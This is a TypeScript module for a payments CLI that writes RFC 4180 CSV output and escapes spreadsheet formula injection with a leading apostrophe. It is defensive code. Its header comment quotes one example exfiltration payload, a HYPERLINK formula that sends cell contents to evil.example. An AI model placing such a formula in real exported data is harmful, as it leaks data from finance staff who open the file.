// `-o csv` (contract: RFC 4180 with a header row) for the list and recon commands, one renderer
// for all of them. Values are the gateway's, null and absent as an empty field, but for money:
// the columns a command names as money (keyColumns' `money`) are written in the one form of the
// tables (contract: 2 decimals, the currency in its own column; displayAmount in money.ts), so a
// gateway's `2499` is `2499.00` here too.
// Lines end CRLF (RFC 4180 2.1); a field with a comma, quote, CR or LF is quoted, quotes doubled.
//
// Spreadsheet formulas (contract, "Output rules"; issue 31 item 9): finance opens these files,
// and a text cell such as `=HYPERLINK("http://evil.example/?"&A1,"Click")` in a refund's message
// would run when opened. A text cell starting with `=`, `+`, `-`, `@`, tab or carriage return gets
// a leading `'`, which spreadsheets read as "text" and do not show. Numbers stay as they are, so
// amounts keep summing:
// - a JSON number is never text: written as JavaScript writes it (`-5`, `1000`);
// - a text cell that is a plain number or phone number, an optional `+` or `-`, digits,
//   optionally `.` and digits (`-100.00`, `+919876543210`, `42`), is written as it is: a
//   spreadsheet reads it as that number and nothing runs, while a `'` in front would corrupt the
//   value for every other reader of the file (an importer, a script: issue 41). The guard is for
//   cells that can run something. Anything else starting with a trigger is prefixed, `-1e5`,
//   `-.5`, `+-1` and `--1` included: the gateway never writes numbers so, and a prefixed harmless
//   cell costs less than a missed formula (docs/security.md, "Redaction").
// `--csv-raw` (CsvOptions.raw) writes every cell as given, for scripts that parse the file.

import { displayAmount } from '../money.js';

// Which commands take it: CSV_COMMANDS in program.ts (any other refuses -o csv before sending).

export interface CsvColumn<T> {
  header: string;
  value: (item: T) => unknown;
}

export interface CsvOptions {
  /** --csv-raw: no `'` before cells a spreadsheet would run as a formula. */
  raw: boolean;
}

/** A plain number or phone number written as text (a sign, digits, a decimal part): kept as it is (see the header). */
const PLAIN_NUMBER = /^[+-]?[0-9]+(?:\.[0-9]+)?$/;
/** What makes a spreadsheet read a cell as a formula (or, for tab and CR, hide where one starts). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** The text as a spreadsheet may safely read it: a leading `'` when it would run as a formula. */
export function spreadsheetSafe(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

function field(value: unknown, options: CsvOptions): string {
  if (value === null || value === undefined) return '';
  let text = typeof value === 'object' ? JSON.stringify(value) : String(value);
  // Only text is guarded: a number, boolean or bigint value is no formula whatever its sign.
  if (!options.raw && (typeof value === 'string' || typeof value === 'object')) text = spreadsheetSafe(text);
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** The whole document: a header row, then one row per item, every line ending CRLF. */
export function toCsv<T>(columns: readonly CsvColumn<T>[], items: readonly T[], options: CsvOptions): string {
  const lines = [columns.map((c) => field(c.header, options)).join(',')];
  for (const item of items) lines.push(columns.map((c) => field(c.value(item), options)).join(','));
  return `${lines.join('\r\n')}\r\n`;
}

/** Columns straight from keys: `a.b` reads a nested field; the keys in `money` in the one money form. */
export function keyColumns<T>(keys: readonly string[], money: readonly string[] = []): CsvColumn<T>[] {
  return keys.map((key) => {
    const read = (item: T) => key.split('.').reduce<unknown>((v, k) => (v !== null && typeof v === 'object' ? (v as Record<string, unknown>)[k] : undefined), item);
    return { header: key, value: money.includes(key) ? (item: T) => displayAmount(read(item)) : read };
  });
}
